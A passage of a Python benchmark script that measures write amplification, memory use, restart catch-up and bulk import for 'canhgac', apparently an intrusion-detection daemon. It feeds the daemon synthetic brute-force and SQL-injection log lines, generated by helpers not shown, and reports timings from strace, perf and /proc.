# ------------------------------------------------------------------------------ amplification

def measure_writes(d, port, run, timeout):
    """Runs run() (which appends to the tailed files and returns the log bytes it wrote), waits
    until all of it is committed, and returns what the daemon wrote meanwhile."""
    sampler = MetricsSampler(d, port)
    sampler.take(settled=True)
    io0, cpu0, t0 = d.io(), d.cpu(), time.time()
    sampler.start()
    log_bytes = run()
    try:
        wait_caught_up(d, sizes_of(d), timeout)
    except TimeoutError as e:
        log(f"  {e}")
    sampler.finish()
    io1, cpu1, el = d.io(), d.cpu(), time.time() - t0
    cf = commit_figures(sampler)
    written = io1.get("write_bytes", 0) - io0.get("write_bytes", 0) if io0 and io1 else None
    return {"log_bytes": log_bytes, "written": written, "commit": cf, "commits": cf["commits"],
            "wchar": io1.get("wchar", 0) - io0.get("wchar", 0) if io0 and io1 else None,
            "cpu_share": (cpu1 - cpu0) / el, "seconds": el, "keys": sampler.last.get(KEYS_GAUGE),
            "state_bytes": state_blob(d)}



def phase_amplification(args, out):
    """Bytes written to storage per byte of log: a normal mix, then a slow, spread-out SQLi scan."""
    templates = benign_templates(args)
    res = {}

    d = start_daemon(args, "amp-mix", [("auth", "syslog"), ("web", "apache")], {"max_keys": args.keys_max_keys})
    port = http_port(d)
    time.sleep(1.0)
    la = loadavg()
    log(f"amplification (a): {args.amp_mbps} MB/s benign + {args.amp_attacks}/s attacks for {args.amp_seconds} s "
        f"(load average {la})")

    def mix():
        bg = BackgroundLoad(d.logs["web"], templates, args.amp_mbps)
        bg.start()
        ips = IpCounter()
        n, sent = append_paced(d.logs["web"], args.amp_attacks, args.amp_seconds,
                               lambda _: attack_line(ips.next(), ips.n, time.time()))
        bg.stop_flag.set()
        bg.join()
        res["mix_attacks"] = n
        return bg.bytes + sent

    res["mix"] = dict(measure_writes(d, port, mix, args.catchup_timeout), load=la)
    finish_daemon(d)

    d = start_daemon(args, "amp-sqli", [("auth", "syslog"), ("web", "apache")], {"max_keys": args.keys_max_keys})
    port = http_port(d)
    log(f"amplification (b): {args.sqli_pool:,} addresses send one SQLi each (the table), then {args.sqli_rate}/s "
        f"from random ones of them for {args.amp_seconds} s")
    t = time.time()
    append(d.logs["web"], "".join(sqli_line(web_ip(j), j, t) for j in range(args.sqli_pool)))
    wait_caught_up(d, sizes_of(d), args.catchup_timeout)
    time.sleep(1.0)
    la = loadavg()
    rnd = random.Random(20261205)

    def scan():
        n, sent = append_paced(d.logs["web"], args.sqli_rate, args.amp_seconds, lambda n: sqli_line(
            web_ip(rnd.randrange(args.sqli_pool)), args.sqli_pool + n, time.time()))
        res["sqli_requests"] = n
        return sent

    res["sqli"] = dict(measure_writes(d, port, scan, args.catchup_timeout), load=la)
    finish_daemon(d)
    out["amplification"] = res

    print(f"6. Write amplification: bytes the daemon wrote to storage (/proc/PID/io write_bytes) per byte of log appended, "
          f"until all of it was committed; [pipeline] max_keys = {args.keys_max_keys:,}")
    print()
    fmt = "  {:<62} {:>10} {:>11} {:>12} {:>8} {:>11} {:>8} {:>9} {:>6}"
    print(fmt.format("", "log bytes", "written MB", "written/log", "commits", "B/commit", "keys", "state kB", "CPU %"))
    for key, label in (("mix", f"(a) normal mix: {args.amp_mbps:g} MB/s benign access + {args.amp_attacks:g} attacks/s, "
                               f"{args.amp_seconds:g} s"),
                       ("sqli", f"(b) slow SQLi scan: {args.sqli_rate:g}/s from {args.sqli_pool:,} addresses, "
                                f"{args.amp_seconds:g} s")):
        r = res[key]
        bpc = r["written"] / r["commits"] if r["written"] is not None and r["commits"] else None
        print(fmt.format(label, f"{r['log_bytes']:,}", fmt_mb(r["written"]), ratio(r["written"], r["log_bytes"], ",.1f"),
                         r["commits"], "-" if bpc is None else f"{bpc / 1e3:,.0f} kB", f"{int(r['keys'] or 0):,}",
                         "-" if r["state_bytes"] is None else f"{r['state_bytes'] / 1e3:,.0f}", f"{r['cpu_share'] * 100:.0f}"))
    s, m = res["sqli"], res["mix"]
    print(f"  commit mean: (a) {fmt_ms(m['commit']['mean_s'])} ms, (b) {fmt_ms(s['commit']['mean_s'])} ms; "
          f"the scan's {res.get('sqli_requests', 0)} requests each touch one key of {int(s['keys'] or 0):,}")
    print(f"  load average at the start: (a) {m['load']}, (b) {s['load']}")
    print()


# ----------------------------------------------------------------------------------- memory

def phase_memory(args, out):
    """RSS idle, at the peak of a PUSH_MB burst and settled afterwards, at the default max_keys."""
    templates = benign_templates(args)
    files, meta = make_push_corpus(args, templates)
    sizes = meta["bytes"]
    total = sum(sizes.values())
    for p in files.values():
        with open(p, "rb") as f:
            while f.read(1 << 24):
                pass
    d = start_daemon(args, "memory", [("auth", "syslog"), ("web", "apache")])
    port = http_port(d)
    log(f"memory: {args.mem_idle:g} s idle")
    time.sleep(args.mem_idle)
    idle_rss, idle_hwm = d.mem()
    idle_roll = d.smaps()
    samples = []
    stop = threading.Event()

    def sampler():
        while not stop.is_set() and d.alive():
            try:
                rss, hwm = d.mem()
            except OSError:
                break
            samples.append((time.time(), rss, hwm))
            time.sleep(0.05)

    th = threading.Thread(target=sampler, daemon=True)
    la = loadavg()
    log(f"memory: pushing {total / 1e6:.0f} MB (load average {la})")
    t0 = time.time()
    th.start()
    copy_interleaved([(files[n], d.logs[n]) for n in ("auth", "web")])
    t_w = time.time()
    try:
        wait_caught_up(d, sizes, args.catchup_timeout, every=0.05)
        caught = True
    except TimeoutError as e:
        log(f"  {e}")
        caught = False
    t_c = time.time()
    caught_rss, _ = d.mem()
    log(f"memory: caught up {t_c - t0:.0f} s after the push began; {args.mem_settle:g} s to settle")
    marks = []
    for k in range(1, 7):
        due = t_c + args.mem_settle * k / 6
        time.sleep(max(0.0, due - time.time()))
        marks.append((round(time.time() - t_c), d.mem()[0]))
    settled_rss, hwm = d.mem()
    settled_roll = d.smaps()
    stop.set()
    th.join()
    m = metrics(port)
    finish_daemon(d)
    busy = [s[1] for s in samples if s[0] <= t_c]
    res = {"bytes": total, "idle_s": args.mem_idle, "idle_rss_kb": idle_rss, "idle_hwm_kb": idle_hwm,
           "idle_smaps": idle_roll, "peak_hwm_kb": hwm, "peak_rss_sampled_kb": max(busy) if busy else None,
           "caught_up": caught, "writer_s": t_w - t0, "catchup_s": t_c - t0, "caught_rss_kb": caught_rss,
           "settle_s": args.mem_settle, "settled_rss_kb": settled_rss, "settled_smaps": settled_roll,
           "settle_marks": marks, "keys": m.get(KEYS_GAUGE), "evicted": m.get(EVICTED), "load": la,
           "samples": [(round(s[0] - t0, 3), s[1]) for s in samples]}
    out["memory"] = res

    def anon(r):
        return (f" anonymous {r['Anonymous'] / 1024:.1f} MB, file-backed {(r['Rss'] - r['Anonymous']) / 1024:.1f} MB"
                if "Anonymous" in r and "Rss" in r else "")

    print(f"7. Memory at the default max_keys: {total / 1e6:.0f} MB push corpus (as phase 3) appended as fast as possible")
    print()
    rows = [(f"idle, {args.mem_idle:g} s after READY, no input (reference)", idle_rss, anon(idle_roll)),
            ("peak during the burst (VmHWM)", hwm, f"{ratio(hwm, idle_rss)} x idle"),
            (f"on catching up, {t_c - t0:.0f} s after the push began", caught_rss, f"{ratio(caught_rss, idle_rss)} x idle"),
            (f"settled, {args.mem_settle:g} s after catching up", settled_rss,
             f"{ratio(settled_rss, idle_rss)} x idle;{anon(settled_roll)}")]
    for label, kb, note in rows:
        print(f"  {label:<52} {kb / 1024:8.1f} MB   {note}")
    print("  VmRSS while settling: " + ", ".join(f"+{s} s {r / 1024:.0f} MB" for s, r in marks))
    print(f"  writer done after {t_w - t0:.1f} s; {'caught up' if caught else 'NOT caught up'}; "
          f"{int(res['keys'] or 0):,} keys live at the end, {int(res['evicted'] or 0):,} evicted (max_keys: the default); "
          f"load average at the start {la}")
    print()


# ---------------------------------------------------------------------------------- catchup

def phase_catchup(args, out):
    """A backlog written while the daemon is stopped, read on restart, against `scan` of it."""
    corpus = args.catchup_corpus
    names = [("auth", "syslog", "auth.log"), ("web", "apache", "access.log")]
    # The backlog is the corpus after its first 2000 lines, which the daemon reads before it is
    # stopped: a restart then resumes from checkpoints of files it knows, as in production.
    srcdir = os.path.join(args.work, "catchup-src")
    os.makedirs(srcdir, exist_ok=True)
    warm, backlog, nlines = {}, {}, 0
    for n, _, fn in names:
        warm[n] = os.path.join(srcdir, fn + ".warm")
        backlog[n] = os.path.join(srcdir, fn)
        with open(os.path.join(corpus, fn), "rb") as f, open(warm[n], "wb") as w, open(backlog[n], "wb") as b:
            for _ in range(2000):
                w.write(f.readline())
            while True:
                chunk = f.read(1 << 24)
                if not chunk:
                    break
                nlines += chunk.count(b"\n")
                b.write(chunk)
    nbytes = sum(os.path.getsize(p) for p in backlog.values())
    runs = []
    for r in range(args.catchup_runs):
        d = start_daemon(args, "catchup", [(n, t) for n, t, _ in names])
        for n in warm:
            shutil.copyfile(warm[n], d.logs[n])
        wait_caught_up(d, sizes_of(d), args.catchup_timeout)
        d.stop()
        for n in backlog:
            with open(backlog[n], "rb") as src, open(d.logs[n], "ab") as dst:
                shutil.copyfileobj(src, dst, 1 << 20)
        la = loadavg()
        log(f"catchup run {r + 1}/{args.catchup_runs}: restart with {nbytes / 1e6:.0f} MB behind (load average {la})")
        t0 = time.time()
        d.start()
        ready = d.ready_at - t0
        trace = []  # (time, committed bytes) whenever the committed offset moved

        def on_poll(offs):
            b = sum(offs.values())
            if not trace or trace[-1][1] != b:
                trace.append((time.time(), b))
        _, last_us, commits = wait_caught_up(d, sizes_of(d), args.catchup_timeout, on_poll=on_poll)
        cpu = d.cpu()  # the whole process, start-up included, as scan's rusage
        sched = d.sched()
        store = d.sched("store")
        _, hwm = d.mem()
        h = commit_hist(metrics_settled(d, http_port(d)))
        finish_daemon(d)
        wall = last_us / 1e6 - t0
        # Where the wall time went: the pipeline thread on a CPU, waiting for one, or neither
        # (blocked); and the longest stretch with no commit moving the offsets.
        marks = [t0] + [t for t, _ in trace] + [last_us / 1e6]
        pause = max(b - a for a, b in zip(marks, marks[1:]))
        runs.append({"kind": "daemon", "wall": wall, "ready_s": ready, "cpu": cpu, "hwm_kb": hwm,
                     "commits": commits, "load": la, "pipeline_on_cpu": sched[0] if sched else None,
                     "pipeline_runq": sched[1] if sched else None, "longest_pause_s": pause,
                     "store_on_cpu": store[0] if store else None,
                     "commits_run": int(h[0]), "commit_s_sum": h[1], "commit_max_le": hist_bound((0, 0, []), h, 1.0),
                     "progress": [(round(t - t0, 3), b) for t, b in trace]})
        log(f"  caught up in {wall:.2f} s ({cpu:.2f} s CPU)")
        scan_run(args, list(backlog.values()), runs, "  scan: {wall:.2f} s ({cpu:.2f} s CPU)")
    out["catchup"] = {"bytes": nbytes, "lines": nlines, "runs": runs}
    bd, bs = print_against_scan(out, "catchup", f"8. Catch-up: {nbytes / 1e6:.1f} MB, {nlines:,} lines (corpus auth.log "
                                f"+ access.log) appended while the daemon was stopped, read on restart; "
                                f"best of {args.catchup_runs}")
    after = bd["wall"] - bd["ready_s"]
    print(f"  daemon, best run: READY {bd['ready_s']:.3f} s after start (scan's start-up is in its time too); from READY "
          f"{after:.3f} s, {nbytes / 1e6 / after:.1f} MB/s; {bd['commits']} commits in all; "
          f"load average {bd['load']} (scan: {bs['load']})")
    if bd["pipeline_on_cpu"] is not None:
        print(f"  its pipeline thread: {bd['pipeline_on_cpu']:.3f} s on a CPU, {bd['pipeline_runq']:.3f} s waiting for one "
              f"(machine load), {max(0.0, bd['wall'] - bd['pipeline_on_cpu'] - bd['pipeline_runq']):.3f} s neither "
              f"(blocked: waiting for the store thread's commit, sleeping); longest time with no commit moving the offsets "
              f"{bd['longest_pause_s']:.3f} s; committed MB at each move: "
              + ", ".join(f"{t:.2f} s {b / 1e6:.0f}" for t, b in bd["progress"][:12]))
        store_cpu = "" if bd.get("store_on_cpu") is None else f" on its store thread ({bd['store_on_cpu']:.3f} s on a CPU)"
        print(f"  its {bd['commits_run']} commits took {bd['commit_s_sum']:.3f} s in all{store_cpu}, the slowest <= "
              f"{fmt_ms(bd['commit_max_le'])} ms (/metrics histogram), while the pipeline read on; commits are at "
              f"least 10 x the last one's duration apart (daemon/commit.rs COMMIT_GAP_FACTOR), and a batch past "
              f"4 batches' worth of lines waits for the one in flight")
    print()


# ----------------------------------------------------------------------------------- import

IMPORT_VERSION = 1  # bump when the import corpus for the same parameters changes


def make_import_corpus(args):
    """An attack-heavy auth.log: IMPORT_INCIDENTS addresses, each with five failed passwords
    (the brute-force threshold) a second apart and then one benign line, one line a second;
    mtime just after the last line, so the year inferred for its stamps is this one or the
    last. Reused while the parameters are the same."""
    outdir = os.path.join(args.bench_dir, "import")
    os.makedirs(outdir, exist_ok=True)
    path = os.path.join(outdir, "auth.log")
    manifest = os.path.join(outdir, "import.json")
    params = {"version": IMPORT_VERSION, "incidents": args.import_incidents}
    try:
        with open(manifest) as f:
            old = json.load(f)
        if old["params"] == params and os.path.getsize(path) == old["bytes"]:
            log(f"import corpus: reusing {path}")
            return path, old
    except (OSError, ValueError, KeyError):
        pass
    log(f"import corpus: writing {args.import_incidents:,} attackers to {path}")
    n = args.import_incidents
    end = int(time.time()) - 3600
    begin = end - 6 * n
    lines = 0
    with open(path + ".tmp", "w", encoding="latin-1", newline="") as f:
        parts = []
        for i in range(n):
            t = begin + 6 * i
            for a in range(5):
                parts.append(ssh_failure(syslog_stamp(t + a), i, 6 * i + a))
            parts.append(benign_auth(syslog_stamp(t + 5), i))
            if len(parts) >= 60000:
                f.write("".join(parts))
                lines += len(parts)
                parts = []
        f.write("".join(parts))
        lines += len(parts)
    os.utime(path + ".tmp", (end + 60, end + 60))
    os.replace(path + ".tmp", path)
    meta = {"params": params, "bytes": os.path.getsize(path), "lines": lines, "begin": begin, "end": end}
    with open(manifest, "w") as f:
        json.dump(meta, f, indent=2)
    return path, meta


def run_import(args, config, path, wrap=()):
    """`canhgac import` of one file (optionally under `wrap`, e.g. strace). Returns wall s, CPU s,
    peak RSS KB, bytes written (rusage: write_bytes / 512 blocks), the last /proc/PID/io seen,
    and its output."""
    err = os.path.join(os.path.dirname(config), "import.out")
    io = {}
    with open(err, "wb") as e:
        t0 = time.time()
        p = subprocess.Popen([*wrap, args.bin, "import", "--config", config, "--type", "syslog", "--input", "auth", path],
                             stdin=subprocess.DEVNULL, stdout=e, stderr=e, preexec_fn=_die_with_parent)
        while True:
            # wait4, not poll(): its rusage is this child's alone (under strace: strace and the
            # traced import it reaped).
            pid, status, ru = os.wait4(p.pid, os.WNOHANG)
            if pid:
                break
            try:
                with open(f"/proc/{p.pid}/io") as f:
                    io = {k.strip(): int(v) for k, _, v in (l.partition(":") for l in f)}
            except (OSError, ValueError):
                pass
            time.sleep(0.02)
        wall = time.time() - t0
        p.returncode = os.waitstatus_to_exitcode(status)
    with open(err, encoding="utf-8", errors="replace") as e:
        text = RE_ANSI.sub("", e.read())
    if p.returncode != 0:
        raise SystemExit(f"canhgac import exited with status {p.returncode}:\n{text[-2000:]}")
    return wall, ru, io, text


def strace_writes(trace):
    """{kind of file: [write calls, bytes, fsyncs]} from `strace -f -y` output, the file told by
    the path strace prints for each descriptor."""
    res = {}
    pending = {}  # pid -> (call, path) of an unfinished call
    re_call = re.compile(r"^(\d+)\s+(\w+)\((\d+)<([^>]*)>")
    re_resumed = re.compile(r"^(\d+)\s+<\.\.\. (\w+) resumed>.*=\s+(-?\d+)")
    re_ret = re.compile(r"=\s+(-?\d+)(?: \w+ \(.*\))?$")

    def kind(path):
        # SQLite names its temporary files etilqs_* and unlinks them at once, or (recent
        # versions) opens them O_TMPFILE, which strace shows as DIR/#INODE.
        if "etilqs" in path or "(deleted)" in path or re.search(r"/#\d+$", path):
            return "temporary (unnamed, " + os.path.dirname(path) + ")"
        if path.endswith("-wal"):
            return "WAL (canhgac.db-wal)"
        if path.endswith("-journal"):
            return "rollback journal"
        if path.endswith("-shm"):
            return "WAL index (-shm)"
        if path.endswith(".db"):
            return "database (canhgac.db)"
        if path.startswith(("pipe:", "socket:", "/dev/")):
            return "pipes, sockets, terminal"
        return "other: " + os.path.basename(path)

    def add(call, path, ret):
        k = res.setdefault(kind(path), [0, 0, 0])
        if call in ("fsync", "fdatasync"):
            k[2] += 1
        elif ret > 0:
            k[0] += 1
            k[1] += ret

    with open(trace, errors="replace") as f:
        for line in f:
            m = re_call.match(line)
            if m:
                pid, call, _, path = m.groups()
                if line.rstrip().endswith("<unfinished ...>"):
                    pending[pid] = (call, path)
                    continue
                r = re_ret.search(line.rstrip())
                if r and call in ("write", "pwrite64", "writev", "pwritev", "pwritev2", "fsync", "fdatasync"):
                    add(call, path, int(r.group(1)))
                continue
            m = re_resumed.match(line)
            if m and m.group(1) in pending:
                call, path = pending.pop(m.group(1))
                add(call, path, int(m.group(3)))
    return res


def phase_import(args, out):
    """`canhgac import` of an attack-heavy history: incidents/s and the bytes it writes, against
    `canhgac scan` of the same file."""
    path, meta = make_import_corpus(args)
    nbytes, nlines = meta["bytes"], meta["lines"]
    la = loadavg()
    log(f"import: scan of {nbytes / 1e6:.0f} MB, {nlines:,} lines (reference; load average {la})")
    s_wall, s_cpu, s_rss, s_summary = run_scan(args, [path])
    m = re.search(r"(\d+) incidents", s_summary)
    s_inc = int(m.group(1)) if m else None

    cfg = Daemon(args.bin, os.path.join(args.work, "import"), [("auth", "syslog")], args.pidfile)
    log("import: canhgac import into a fresh store")
    wall, ru, io, text = run_import(args, cfg.config, path)
    cpu = ru.ru_utime + ru.ru_stime
    written = ru.ru_oublock * 512
    c = sqlite3.connect(f"file:{cfg.db_path}?mode=ro", uri=True)
    try:
        stored = c.execute("SELECT count(*) FROM incidents").fetchone()[0]
    finally:
        c.close()
    store_files = {f: os.path.getsize(os.path.join(cfg.dir, "state", f)) for f in os.listdir(os.path.join(cfg.dir, "state"))}
    tables = table_bytes(cfg.db_path)
    res = {"bytes": nbytes, "lines": nlines, "scan": {"wall": s_wall, "cpu": s_cpu, "hwm_kb": s_rss, "summary": s_summary,
                                                    "incidents": s_inc},
           "import": {"wall": wall, "cpu": cpu, "written": written, "proc_io_last": io, "incidents": stored,
                      "hwm_kb": ru.ru_maxrss, "store_files": store_files, "tables": tables,
                      "output": text[-2000:]}, "load": la}

    strace = None
    if args.import_strace:
        if shutil.which("strace"):
            # Under strace every write(2) stops the process twice: a prefix keeps this minutes
            # shorter than the whole file would.
            cfg2 = Daemon(args.bin, os.path.join(args.work, "import-strace"), [("auth", "syslog")], args.pidfile)
            k = min(args.import_incidents, args.import_strace)
            prefix = os.path.join(cfg2.dir, "auth.log.1")
            with open(path, "rb") as src, open(prefix, "wb") as dst:
                for _ in range(6 * k):
                    dst.write(src.readline())
            st = os.stat(path)
            os.utime(prefix, (st.st_atime, st.st_mtime))
            trace = os.path.join(cfg2.dir, "strace.txt")
            log(f"import: the first {k:,} addresses again, into a fresh store, under strace -f (writes per file)")
            s_w, s_ru, _, s_text = run_import(args, cfg2.config, prefix,
                                              wrap=("strace", "-f", "-y", "-s", "0", "-qq", "-o", trace, "-e",
                                                    "trace=write,pwrite64,writev,pwritev,pwritev2,fsync,fdatasync"))
            m = re.search(r"(\d+) incidents stored", s_text)
            strace = {"wall": s_w, "addresses": k, "lines": 6 * k, "bytes": os.path.getsize(prefix),
                      "incidents": int(m.group(1)) if m else None, "by_file": strace_writes(trace)}
        else:
            log("import: strace not installed; per-file writes skipped")
    res["strace"] = strace
    out["import"] = res

    print(f"9. Import of an attack-heavy auth.log: {nbytes / 1e6:.1f} MB, {nlines:,} lines, {args.import_incidents:,} "
          f"addresses with five failed passwords each (the brute-force threshold); one file, so one transaction")
    print()
    fmt = "  {:<40} {:>7} {:>10} {:>12} {:>6} {:>11} {:>12}"
    print(fmt.format("", "wall s", "incidents", "incidents/s", "CPU s", "written MB", "written/inc."))
    print(fmt.format("canhgac import, into a fresh store", f"{wall:.2f}", f"{stored:,}", f"{stored / wall:,.0f}",
                     f"{cpu:.2f}", fmt_mb(written), "-" if not stored else f"{written / stored:,.0f} B"))
    print(fmt.format("canhgac scan, same file (reference)", f"{s_wall:.2f}", "-" if s_inc is None else f"{s_inc:,}",
                     "-" if not s_inc else f"{s_inc / s_wall:,.0f}", f"{s_cpu:.2f}", "-", "-"))
    print()
    print(f"  import / scan: {s_wall / wall:.2f} x by wall clock, {s_cpu / cpu:.2f} x by CPU time; written = rusage "
          f"blocks out x 512 (= /proc/PID/io write_bytes); the store holds "
          + ", ".join(f"{k} {v / 1e6:.1f} MB" for k, v in sorted(store_files.items())) + " after it")
    if io:
        print(f"  last /proc/PID/io seen before it exited (every 20 ms): write_bytes {io.get('write_bytes', 0) / 1e6:,.1f} MB "
              f"(to storage), cancelled_write_bytes {io.get('cancelled_write_bytes', 0) / 1e6:,.1f} MB (dirtied, then "
              f"dropped before writeback), wchar {io.get('wchar', 0) / 1e6:,.1f} MB (passed to write(2) calls, page cache "
              f"included: {io.get('wchar', 0) / max(stored, 1) / 1e3:,.1f} kB per incident)")
    if strace:
        print(f"  write(2)-family calls by file: import of the file's first {strace['addresses']:,} addresses "
              f"({strace['lines']:,} lines, {strace['bytes'] / 1e6:.1f} MB, {strace['incidents'] or 0:,} incidents) into a "
              f"fresh store under strace -f -y ({strace['wall']:.1f} s):")
        for k, (calls, b, syncs) in sorted(strace["by_file"].items(), key=lambda kv: -kv[1][1]):
            print(f"    {k:<34} {calls:>9,} calls {b / 1e6:>10.1f} MB {syncs:>6} fsyncs")
        if not any(k.startswith("temporary") for k in strace["by_file"]):
            print("    no writes to temporary files")
    last = [l for l in text.splitlines() if l.strip()]
    if last:
        print(f"  import says: {last[-1][:200]}")
    print(f"  load average at the start: {la}")
    print()


PERF_PARTS = [  # (label, substring of a frame's symbol)
    ("Pipeline::read (tail, match, detect)", "canhgac::daemon::Pipeline::read"),
    ("Pipeline::commit, all of it", "canhgac::daemon::Pipeline::commit"),
    ("  Detector::snapshot (clone of the state)", "canhgac::detect::Detector::snapshot"),
    ("  serde_json::to_vec of the state", "to_vec<canhgac::daemon::DetectorState>"),
    ("  Store::commit (SQLite, fsync)", "canhgac::store::Store::commit"),
    ("  Detector::expire", "canhgac::detect::Detector::expire"),
]


def perf_breakdown(args):
    """Share of the pipeline thread's samples under a few functions (inclusive), from perf script."""
    data = os.path.join(args.results, "perf.data")
    try:
        text = subprocess.run(["perf", "script", "-i", data, "-F", "comm,ip,sym"], stdout=subprocess.PIPE,
                              stderr=subprocess.DEVNULL, check=True).stdout.decode("utf-8", "replace")
    except (OSError, subprocess.CalledProcessError) as e:
        log(f"perf script failed: {e}")
        return
    stacks, cur, keep = [], [], False
    for line in text.splitlines():
        if not line.strip():
            if cur and keep:
                stacks.append(cur)
            cur, keep = [], False
        elif line[0] in " \t":
            cur.append(line.strip().split(None, 1)[-1])
        else:
            keep = line.split()[0] == "pipeline"
    if cur and keep:
        stacks.append(cur)
    if not stacks:
        return
    print(f"  perf, pipeline thread ({len(stacks)} samples; inclusive shares; frames inlined away may be missed):")
    for label, pat in PERF_PARTS:
        n = sum(1 for st in stacks if any(pat in f for f in st))
        print(f"    {n / len(stacks) * 100:5.1f} %  {label}")
    print()


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--bin", required=True)
    ap.add_argument("--corpus", required=True, help="make_corpus.py output directory")
    ap.add_argument("--bench-dir", required=True, help="where the push corpus is kept")
    ap.add_argument("--work", required=True, help="scratch directory for the daemons (wiped)")
    ap.add_argument("--results", required=True)
    ap.add_argument("--pidfile", required=True, help="the running daemon's pid, for the caller's trap")
    ap.add_argument("--phases", default="throughput,latency,push")
    ap.add_argument("--runs", type=int, default=3)
    ap.add_argument("--lat-lines", type=int, default=200)
    ap.add_argument("--lat-spacing", type=float, default=0.05, help="seconds")
    ap.add_argument("--load-mbps", type=float, default=4.0)
    ap.add_argument("--push-mb", type=float, default=1024)
    ap.add_argument("--push-span", type=int, default=1200, help="seconds of log time the push corpus covers")
    ap.add_argument("--web-pool", type=int, default=30000)
    ap.add_argument("--ssh-pool", type=int, default=1000000)
    ap.add_argument("--max-keys", type=int, default=0, help="[pipeline] max_keys for the push (0: the default)")
    ap.add_argument("--full-lat-lines", type=int, default=20, help="latency lines after the push (0: none)")
    ap.add_argument("--full-lat-spacing", type=float, default=0.3, help="seconds")
    ap.add_argument("--catchup-timeout", type=float, default=600)
    ap.add_argument("--year-incidents", type=int, default=120000, help="incidents in the scrape phase's year")
    ap.add_argument("--scrapes", type=int, default=200, help="scrapes timed with cached monthly figures")
    ap.add_argument("--cold-scrapes", type=int, default=30, help="scrapes timed right after a commit")
    ap.add_argument("--scrape-interval", type=float, default=0.5, help="seconds between scrapes under load")
    ap.add_argument("--perf", type=int, default=0, help="seconds of `perf record` on the daemon during the push")
    ap.add_argument("--keys", default="0,1000,10000,100000", help="live detector keys per row of the keys phase")
    ap.add_argument("--keys-max-keys", type=int, default=200000, help="[pipeline] max_keys, keys and amplification")
    ap.add_argument("--keys-rate", type=float, default=2000, help="lines/s of the keys phase's steady mix")
    ap.add_argument("--keys-seconds", type=float, default=20, help="seconds of the steady mix per row")
    ap.add_argument("--amp-seconds", type=float, default=30, help="seconds of each amplification load")
    ap.add_argument("--amp-mbps", type=float, default=4.0, help="benign MB/s of the normal mix")
    ap.add_argument("--amp-attacks", type=float, default=20, help="attack lines/s of the normal mix")
    ap.add_argument("--sqli-pool", type=int, default=20000, help="addresses of the slow SQLi scan")
    ap.add_argument("--sqli-rate", type=float, default=10, help="SQLi requests/s of the slow scan")
    ap.add_argument("--mem-idle", type=float, default=5, help="seconds idle before the memory phase's push")
    ap.add_argument("--mem-settle", type=float, default=60, help="seconds after catching up to the settled RSS")
    ap.add_argument("--catchup-corpus", help="make_corpus.py output for the catchup phase (default: --corpus)")
    ap.add_argument("--catchup-runs", type=int, default=2)
    ap.add_argument("--import-incidents", type=int, default=300000, help="attacking addresses in the import file")
    ap.add_argument("--import-strace", type=int, default=20000,
                    help="addresses of the prefix imported again under strace -f (writes per file; 0: none)")
    args = ap.parse_args()
    if not (0 < args.ssh_pool <= 1 << 22 and 0 < args.web_pool <= 1 << 16):
        ap.error("--ssh-pool 1..2^22 (100.64.0.0/10), --web-pool 1..2^16 (198.18.0.0/16)")
    if not (0 < args.sqli_pool <= 1 << 16 and 0 < args.import_incidents <= 1 << 22):
        ap.error("--sqli-pool 1..2^16 (198.18.0.0/16), --import-incidents 1..2^22 (100.64.0.0/10)")
    args.catchup_corpus = args.catchup_corpus or args.corpus
    # Relative paths in the daemon's config are taken from the config's directory: use absolute ones.
    for a in ("bin", "corpus", "catchup_corpus", "bench_dir", "work", "results", "pidfile"):
        setattr(args, a, os.path.abspath(getattr(args, a)))
    os.makedirs(args.results, exist_ok=True)
    os.makedirs(args.work, exist_ok=True)

    def on_signal(signum, _frame):
        raise SystemExit(128 + signum)
    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(s, on_signal)

    out = {"date": dt.datetime.now(dt.timezone.utc).isoformat(timespec="seconds"), "loadavg_start": loadavg()}
    run = {"throughput": phase_throughput, "latency": phase_latency, "push": phase_push, "scrape": phase_scrape,
           "keys": phase_keys, "amplification": phase_amplification, "memory": phase_memory,
           "catchup": phase_catchup, "import": phase_import}
    aliases = {"state": STATE_PHASES, "all": list(run)}
    phases = []
    for p in (p.strip() for p in args.phases.split(",")):
        for q in aliases.get(p, [p] if p else []):
            if q not in run:
                ap.error(f"unknown phase {q!r} (phases: {', '.join(run)}; aliases: {', '.join(aliases)})")
            if q not in phases:
                phases.append(q)
    try:
        for p in phases:
            run[p](args, out)
    finally:
        stop_all()
        out["loadavg_end"] = loadavg()
        with open(os.path.join(args.results, "daemon.json"), "w") as f:
            json.dump(out, f, indent=1)
    if args.perf and "push" in phases:
        perf_breakdown(args)
        with open(os.path.join(args.results, "perf.txt"), "w") as f:
            subprocess.run(["perf", "report", "-i", os.path.join(args.results, "perf.data"), "--stdio", "--no-children",
                            "--percent-limit", "1", "-g", "none"], stdout=f, stderr=subprocess.DEVNULL)
    print(f"load average: {out['loadavg_start']} at the start, {out['loadavg_end']} at the end")


if __name__ == "__main__":
    main()
